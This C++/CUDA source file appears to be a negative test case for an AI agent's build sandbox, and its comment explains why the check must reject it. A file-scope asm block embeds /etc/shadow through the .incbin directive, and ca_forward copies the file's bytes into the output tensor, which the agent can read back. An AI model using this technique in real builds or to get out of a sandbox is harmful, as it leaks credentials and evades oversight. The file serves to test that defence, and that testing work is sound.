// CHEAT (the build reads host files through the assembler): a file-scope asm block puts the
// bytes of /etc/shadow (and, failing that, the build cache's first library) into .rodata with the
// assembler's .incbin directive, between two labels the C++ code can see. Nothing in the source
// names a file the source rules know (no #include, no fopen): the host's assembler would read the
// file at build time and the library would carry it into the worker, where ca_forward copies its
// first bytes into the output (a channel out through the outputs the agent can read back), and
// the host's file would be inside a cache entry others load.
// Why it must fail: host assembly is checked before it is assembled (src/build/hostasm.h):
// file-scope asm other than nvcc's own fatbin block, and directives GCC never emits for host code
// (.incbin among them), are build.forbidden_source; and the assembler runs in the build sandbox,
// which has no /etc/shadow and no cache in its view (build.error if it got that far).
#include <cuda_runtime.h>
#include <dlpack/dlpack.h>
#include <cuda_agent/abi.h>

#include <stdint.h>
#include <string.h>

asm(".section .rodata\n"
    ".balign 16\n"
    ".globl ca_secret_begin\n"
    "ca_secret_begin:\n"
    ".incbin \"/etc/shadow\"\n"
    ".globl ca_secret_end\n"
    "ca_secret_end:\n"
    ".byte 0\n"
    ".previous\n");

extern "C" const char ca_secret_begin[], ca_secret_end[];

namespace {

__global__ void scale_add(const float *__restrict__ x, float *__restrict__ y, int64_t n)
{
	const int64_t i = (int64_t)blockIdx.x * blockDim.x + threadIdx.x;
	if (i < n)
		y[i] = fmaf(2.0f, x[i], 1.0f);
}

} // namespace

extern "C" int ca_forward(const DLTensor *args, int num_args, const DLTensor *params, int num_params,
			  DLTensor *outputs, int num_outputs, cudaStream_t stream)
{
	(void)params;
	(void)num_params;
	if (num_args != 1 || num_outputs != 1)
		return 1;
	int64_t n = 1;
	for (int i = 0; i < args[0].ndim; ++i)
		n *= args[0].shape[i];
	float *y = static_cast<float *>(outputs[0].data);
	if (n > 0)
		scale_add<<<(unsigned)((n + 255) / 256), 256, 0, stream>>>(static_cast<const float *>(args[0].data), y,
									    n);
	// The exfiltration: the file's first bytes over the first outputs (read back by the agent).
	size_t len = (size_t)(ca_secret_end - ca_secret_begin);
	if (len > 4096)
		len = 4096;
	if (len > 0 && (int64_t)len <= n * 4)
		cudaMemcpyAsync(y, ca_secret_begin, len, cudaMemcpyHostToDevice, stream);
	return cudaGetLastError() == cudaSuccess ? 0 : 3;
}
